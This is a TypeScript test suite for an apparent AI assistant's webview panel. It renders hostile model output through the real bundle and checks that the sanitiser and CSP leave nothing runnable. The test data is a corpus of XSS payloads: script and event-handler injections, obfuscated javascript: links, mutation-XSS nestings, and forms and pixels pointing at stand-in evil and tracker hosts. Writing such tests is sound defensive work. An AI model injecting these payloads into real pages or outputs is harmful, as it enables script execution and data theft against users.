// Hostile model output through the real bundle: nothing may run, nothing may load from elsewhere,
// no handler attribute or active element may survive. The CSP would stop most of these on its own,
// so the checks look at the DOM (what the sanitiser let through) and at CSP violation reports (the
// CSP had nothing to block), not only at whether a payload managed to run.
import * as assert from "node:assert/strict";
import { linkTarget, webHref } from "../../src/shared/linkScheme";
import { WebviewBench } from "./bench";
import { assistant, showMarkdown, stateOf } from "./markdownBench";
import { hostileEmpty, hostilePanel, hostileView } from "./xssPanel";
import { panelPayloads } from "./xssPayloads";

const run = (n: number) => `window.__xss=${n}`;
const markdownPayloads = [
  `<script>${run(1)}</script>`,
  `<img src=x onerror="${run(2)}">`,
  `[plain](javascript:${run(3)})`,
  `[entity](&#106;avascript:${run(4)}) and [tab](jav&#x09;ascript:${run(4)})`,
  `<a href="&#x6A;&#x61;vascript:${run(5)}">entity html</a> <a href="JaVaScRiPt:${run(5)}">mixed</a>`,
  `[mixed case](JaVaScRiPt:${run(6)})`,
  `<svg onload="${run(7)}"><circle r=5></circle></svg>`,
  `<svg><script>${run(8)}</script></svg>`,
  `<iframe srcdoc="<script>parent.__xss=9</script>"></iframe>`,
  `<a href="data:text/html,<script>${run(10)}</script>">data link</a> [md data](data:text/html;base64,PHNjcmlwdD4=)`,
  `<form action="http://evil.invalid/steal"><input name=q><button formaction="http://evil.invalid/b">go</button></form>`,
  `<meta http-equiv="refresh" content="0;url=http://evil.invalid/">`,
  `<style>body{background:url(http://tracker.invalid/bg.png)} @import "http://tracker.invalid/i.css";</style>`,
  `![tracker](http://tracker.invalid/pixel.png) ![t2](https://tracker.invalid/p.gif "title")`,
  `<javascript:${run(11)}> <vbscript:msgbox(1)> <http://example.com/auto> www.example.com/www`,
  `<!--><img src=x onerror="${run(12)}">--> <!-- --!><img src=x onerror="${run(12)}"> -->`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${run(13)}"></style></mglyph></table></mtext></math>`,
  `<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=${run(14)} src=1>"></textarea></mtext></svg></mglyph></mi></math>`,
  `<a href="vbscript:msgbox(1)">vb</a> <details open ontoggle="${run(15)}"><summary>s</summary>d</details>`,
  `<object data="http://evil.invalid/x.swf"></object><embed src="http://evil.invalid/e"><base href="http://evil.invalid/"><link rel=stylesheet href="http://evil.invalid/x.css">`,
  `<p style="background:url(http://tracker.invalid/p.png)">styled</p> <input type="image" src="http://tracker.invalid/i.png">`,
  `<a href="https://example.com" onclick="${run(16)}" onmouseover="${run(16)}">handler on link</a>`,
  `[title](https://a.example "\\" onmouseover=\\"${run(17)}")`,
  `<video><source onerror="${run(18)}"></video><audio src=x onerror="${run(18)}"></audio><img srcset="http://tracker.invalid/s.png 1x">`,
  "```html\n<script>window.__xss=19</script>\n```",
  `<noscript><p title="</noscript><img src=x onerror=${run(20)}>"></noscript>`,
  `<table><tr><td><a href="javascript:${run(21)}">in table</a></td></tr></table>`,
];
/** The markdown corpus, then every payload written for the whole panel (markdown renders them too). */
const payloads = [...markdownPayloads, ...panelPayloads];

// Chromium checks the inline handlers and styles it meets while parsing DOMPurify's inert DOMParser
// document against the page's CSP and reports them at the document (nothing runs or applies
// there), and since base-uri 'none' a <base href> in it as well; one by an element of the page
// names that element. The handler, active-element and style checks prove none reached the page.
const documentOnly = /^((script-src-attr|style-src-attr|style-src-elem) inline|base-uri \S+) \(document\)$/;

async function inspect(bench: WebviewBench) {
  return bench.page.evaluate(() => {
    const md = [...document.querySelectorAll(".md")];
    const all = md.flatMap(m => [...m.querySelectorAll("*")]);
    return {
      xss: (window as unknown as { __xss?: number }).__xss,
      handlers: all.flatMap(e => [...e.attributes].filter(a => /^on/i.test(a.name)).map(a => `${e.nodeName} ${a.name}`)),
      active: all.filter(e => /^(SCRIPT|STYLE|IFRAME|FORM|SVG|MATH|META|IMG|OBJECT|EMBED|BASE|LINK|VIDEO|AUDIO|SOURCE|TEXTAREA|NOSCRIPT)$/i.test(e.nodeName)).map(e => e.nodeName),
      loading: all.flatMap(e => ["src", "srcset", "srcdoc", "style", "action", "formaction", "data", "xlink:href", "background", "poster"]
        .filter(a => e.hasAttribute(a)).map(a => `${e.nodeName} ${a}`)),
      hrefs: all.filter(e => e.hasAttribute("href")).map(e => e.getAttribute("href")!),
      inputs: all.filter(e => e.nodeName === "INPUT").map(e => `${e.getAttribute("type")} ${e.hasAttribute("disabled")}`),
      text: md.map(m => (m as HTMLElement).innerText).join("\n"),
      location: location.href,
    };
  });
}

describe("webview bench: hostile markdown", function () {
  let bench: WebviewBench;
  afterEach(async () => bench?.close());

  async function assertClean(what: string) {
    await bench.page.waitForTimeout(300); // idle highlighting, any late load
    const r = await inspect(bench);
    assert.equal(r.xss, undefined, `${what}: a payload ran`);
    assert.deepEqual(r.handlers, [], `${what}: handler attributes survived`);
    assert.deepEqual(r.active, [], `${what}: active elements survived`);
    assert.deepEqual(r.loading, [], `${what}: loading/style attributes survived`);
    for (const h of r.hrefs) assert.ok(linkTarget(h), `${what}: href ${h} is not on the allow-list`);
    assert.deepEqual(r.inputs.filter(i => i !== "checkbox true"), [], `${what}: inputs other than GFM's disabled checkbox survived`);
    assert.deepEqual(bench.requests.filter(u => !u.startsWith(bench.origin)), [], `${what}: requests left the page's origin`);
    const violations = (await bench.cspViolations()).filter(v => !documentOnly.test(v));
    assert.deepEqual(violations, [], `${what}: the CSP had to block something the sanitiser let through: ${violations.join(", ")}`);
    return r;
  }

  it("renders the XSS corpus as one message: nothing runs, loads or keeps a handler", async () => {
    bench = await WebviewBench.open();
    await showMarkdown(bench, payloads.join("\n\n"));
    const r = await assertClean("whole message");
    assert.match(r.text, /\[image: tracker\]/, "a markdown image shows as a placeholder link");
    assert.ok(r.text.includes("<script>window.__xss=19</script>"), "code shows markup as text");
    assert.ok(r.hrefs.includes("http://tracker.invalid/pixel.png"), "the image placeholder links to its URL (opened by the host on click)");
  });

  it("stays clean at every step of a stream (partial payloads are sanitised too)", async () => {
    bench = await WebviewBench.open();
    const text = payloads.join("\n\n");
    for (let i = 23; i < text.length + 23; i += 23) await bench.post(stateOf([assistant("msg_1", text.slice(0, i), true)]));
    await bench.post(stateOf([assistant("msg_1", text, false)]));
    await assertClean("streamed");
  });

  it("each payload alone, and clicking every link or path posts to the host without navigating", async () => {
    bench = await WebviewBench.open();
    for (const [i, p] of payloads.entries()) {
      await showMarkdown(bench, `payload ${i}\n\n${p}`);
      await assertClean(`payload ${i}`);
    }
    await showMarkdown(bench, payloads.join("\n\n"));
    const links = await bench.page.locator(".md a, .md .md-path").all();
    // An anchor left empty (a link nested in a link is split by the HTML parser) has no box to click.
    for (const l of links) if (await l.isVisible()) await l.click({ force: true });
    const r = await assertClean("after clicks");
    assert.equal(r.location, `${bench.origin}/`, "the webview navigated");
    const posted = (await bench.posted()).filter(m => m.type === "openLink" || m.type === "openFile");
    assert.ok(posted.length > 0 && posted.every(m => m.type !== "openLink" || /^(https?:|mailto:)/.test(m.url)), JSON.stringify(posted));
  });
});

/** The whole panel: what the product's own UI renders must be inert too, not only markdown. */
async function inspectPanel(bench: WebviewBench) {
  return bench.page.evaluate(() => {
    const all = [...document.querySelectorAll("#root *")];
    return {
      xss: (window as unknown as { __xss?: number }).__xss,
      handlers: all.flatMap(e => [...e.attributes].filter(a => /^on/i.test(a.name)).map(a => `${e.nodeName} ${a.name}`)),
      active: all.filter(e => /^(SCRIPT|STYLE|IFRAME|FRAME|SVG|MATH|META|IMG|OBJECT|EMBED|BASE|LINK|VIDEO|AUDIO|SOURCE|NOSCRIPT|TEMPLATE|FORM|DIALOG|SELECT|MARQUEE)$/i.test(e.nodeName)).map(e => e.nodeName),
      loading: all.flatMap(e => ["src", "srcset", "srcdoc", "action", "formaction", "data", "xlink:href", "background", "poster", "autofocus"]
        .filter(a => e.hasAttribute(a)).map(a => `${e.nodeName} ${a}`)),
      urlStyles: all.filter(e => /url\(/i.test(e.getAttribute("style") ?? "")).map(e => e.nodeName),
      hrefs: all.filter(e => e.hasAttribute("href")).map(e => ({ href: e.getAttribute("href")!, md: !!e.closest(".md") })),
      title: document.querySelector(".header .title")?.textContent ?? "",
      location: location.href,
    };
  });
}

describe("webview bench: hostile text in every place of the panel", function () {
  let bench: WebviewBench;
  afterEach(async () => bench?.close());

  async function assertPanelClean(what: string, p: string) {
    const r = await inspectPanel(bench);
    assert.equal(r.xss, undefined, `${what}: a payload ran`);
    assert.deepEqual(r.handlers, [], `${what}: handler attributes`);
    assert.deepEqual(r.active, [], `${what}: active elements`);
    assert.deepEqual(r.loading, [], `${what}: loading attributes`);
    assert.deepEqual(r.urlStyles, [], `${what}: a style with url()`);
    // Markdown may link paths (relative); everything else only web and mail links, or "#" (file links carry data-path).
    for (const { href, md } of r.hrefs) assert.ok(href === "#" || (md ? linkTarget(href) : webHref(href)), `${what}: href ${JSON.stringify(href)}`);
    assert.equal(r.title, p, `${what}: the session title is not the text as given`);
    assert.equal(r.location, `${bench.origin}/`, `${what}: the webview navigated`);
    assert.deepEqual(bench.requests.filter(u => !u.startsWith(bench.origin)), [], `${what}: requests left the page's origin`);
    const violations = (await bench.cspViolations()).filter(v => !documentOnly.test(v));
    assert.deepEqual(violations, [], `${what}: a CSP violation from the panel's own UI: ${violations.join(", ")}`);
    // Chromium also logs each CSP report as a console error; those are judged above.
    assert.deepEqual(bench.errors.filter(e => !/Content Security Policy/.test(e)), [], `${what}: a render failed`);
  }

  it(`shows each of ${panelPayloads.length} payloads as text in the header, asks, prompts, cards, todos, errors and URLs`, async () => {
    assert.ok(panelPayloads.length >= 60);
    bench = await WebviewBench.open({ viewport: { width: 440, height: 3000 } });
    for (const [i, p] of panelPayloads.entries()) {
      await bench.post({ type: "state", panel: hostilePanel(p), view: hostileView(p) });
      await bench.settle();
      await assertPanelClean(`payload ${i}`, p);
    }
    console.log(`      screenshot: ${await bench.screenshot("xss-panel", true)}`);
    await bench.post({ type: "state", panel: hostileEmpty(panelPayloads[0]) });
    await bench.settle();
    assert.ok((await bench.text()).includes(panelPayloads[0]), "the empty state does not show its message as text");
  });

  it("clicking every link, path and card control in a hostile panel navigates nowhere and posts only allowed links", async () => {
    bench = await WebviewBench.open({ viewport: { width: 440, height: 3000 } });
    const popups: string[] = [];
    bench.page.context().on("page", pg => popups.push(pg.url()));
    const p = panelPayloads.join(" ");
    // The whole corpus in the banner and asks would leave the conversation no room: they hold plain text here.
    await bench.post({ type: "state", panel: { ...hostilePanel("plain"), asks: [] }, view: hostileView(p) });
    await bench.settle();
    // A synthetic click still runs an anchor's default action (navigation) unless the page stops
    // it; dispatched to the element itself, it cannot land on whatever covers it in the layout.
    for (const el of await bench.page.locator("#root a, #root .md-path, #root .inert-link, #root summary").all()) {
      await el.dispatchEvent("click");
      if (await el.isVisible()) await el.click({ force: true, button: "middle" });
    }
    await bench.page.waitForTimeout(300);
    await assertPanelClean("after clicks", p);
    assert.deepEqual(popups, [], "a click opened a page");
    const links = (await bench.posted()).flatMap(m => (m.type === "openLink" ? [m.url] : []));
    assert.ok(links.length > 0, `no link was posted at all: ${JSON.stringify((await bench.posted()).map(m => m.type))} ${JSON.stringify((await inspectPanel(bench)).hrefs.slice(0, 20))}`);
    for (const url of links) assert.ok(linkTarget(url), `posted openLink ${url}`);
  });
});
